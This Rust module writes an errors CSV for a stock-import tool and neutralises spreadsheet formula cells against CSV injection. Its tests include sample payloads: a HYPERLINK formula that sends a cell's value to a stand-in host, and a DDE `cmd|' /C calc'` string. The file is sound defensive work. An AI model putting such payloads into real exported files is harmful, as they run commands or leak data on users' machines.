//! The errors CSV: every row that was not applied, with its original
//! columns and an `error` column, ready to be fixed and dropped back in.
//! Cells a spreadsheet would run as formulas are neutralised (OWASP CSV
//! injection): the file's content must never execute on a clerk's machine.

use crate::plan::Draft;

/// A leading `'` on text a spreadsheet would read as a formula (SPEC §5):
/// its first non-blank character is `=`, `+`, `-` or `@`, or it starts with
/// a tab or carriage return — a spreadsheet skips leading spaces, so
/// ` =HYPERLINK(…)` is as live as `=HYPERLINK(…)`. A plain number such as
/// `-3` is left alone: it is data, not a formula. The import drops one
/// leading `'`, so a neutralised cell reads back as it was. Every CSV
/// stockdrop writes (this report and `stockdrop export`) goes through here.
pub fn neutralise(cell: &str) -> String {
    let first_visible =
        cell.trim_start_matches(|c: char| c.is_whitespace() && c != '\t' && c != '\r');
    let risky = cell.starts_with(['\t', '\r'])
        || first_visible.starts_with(['=', '+', '-', '@', '\t', '\r']);
    if risky && !is_plain_number(first_visible) {
        format!("'{cell}")
    } else {
        cell.to_string()
    }
}

fn is_plain_number(cell: &str) -> bool {
    let body = cell.strip_prefix(['+', '-']).unwrap_or(cell);
    !body.is_empty()
        && body.bytes().any(|b| b.is_ascii_digit())
        && body
            .bytes()
            .all(|b| b.is_ascii_digit() || b == b'.' || b == b',')
        && body.bytes().filter(|&b| b == b'.' || b == b',').count() <= 1
}

/// The CSV text: UTF-8 with a BOM (so Excel reads accents right), comma
/// separated, CRLF line ends.
pub fn render(draft: &Draft) -> std::io::Result<Vec<u8>> {
    let mut out = b"\xEF\xBB\xBF".to_vec();
    {
        let mut writer = csv::WriterBuilder::new()
            .terminator(csv::Terminator::CRLF)
            .flexible(true)
            .from_writer(&mut out);
        let width = draft.errors_csv_header.len();
        let mut header: Vec<String> = draft.errors_csv_header.clone();
        if draft.errors_csv_location {
            header.push("locationName".into());
        }
        header.push("error".into());
        writer.write_record(header.iter().map(|h| neutralise(h)))?;
        for row in &draft.errors_csv {
            let mut record: Vec<String> = row
                .cells
                .iter()
                .chain(std::iter::repeat(&String::new()))
                .take(width)
                .map(|c| neutralise(c))
                .collect();
            if draft.errors_csv_location {
                record.push(neutralise(row.location.as_deref().unwrap_or("")));
            }
            record.push(neutralise(&row.error));
            writer.write_record(&record)?;
        }
        writer.flush()?;
    }
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::plan::ErrorsCsvRow;

    #[test]
    fn formulas_are_neutralised_numbers_are_not() {
        assert_eq!(neutralise("=HYPERLINK(\"x\")"), "'=HYPERLINK(\"x\")");
        assert_eq!(neutralise("+1+1"), "'+1+1");
        assert_eq!(neutralise("@SUM(A1)"), "'@SUM(A1)");
        assert_eq!(neutralise("\tx"), "'\tx");
        assert_eq!(neutralise("-"), "'-");
        assert_eq!(neutralise("-3"), "-3");
        assert_eq!(neutralise("-1.5"), "-1.5");
        assert_eq!(neutralise("+7"), "+7");
        assert_eq!(neutralise("A-1"), "A-1");
    }

    #[test]
    fn formulas_behind_blanks_are_neutralised() {
        let link = " =HYPERLINK(\"http://x.example/?\"&A1)";
        assert_eq!(neutralise(link), format!("'{link}"));
        assert_eq!(neutralise("  @SUM(1+1)"), "'  @SUM(1+1)");
        assert_eq!(neutralise("\u{a0}+cmd"), "'\u{a0}+cmd");
        assert_eq!(neutralise(" \t=x"), "' \t=x");
        assert_eq!(
            neutralise("@SUM(1+1)*cmd|' /C calc'!A0"),
            "'@SUM(1+1)*cmd|' /C calc'!A0"
        );
        assert_eq!(neutralise(" -3"), " -3");
        assert_eq!(neutralise(" 12"), " 12");
        assert_eq!(neutralise("a =b"), "a =b");
    }

    #[test]
    fn rows_keep_their_columns_plus_error() {
        let draft = Draft {
            errors_csv_header: vec!["sku".into(), "qty".into()],
            errors_csv_location: true,
            errors_csv: vec![ErrorsCsvRow {
                cells: vec!["=cmd".into()],
                location: Some("11".into()),
                error: "quantity is missing".into(),
            }],
            ..Draft::default()
        };
        let text = String::from_utf8(render(&draft).unwrap()).unwrap();
        assert_eq!(
            text,
            "\u{feff}sku,qty,locationName,error\r\n'=cmd,,11,quantity is missing\r\n"
        );
    }
}
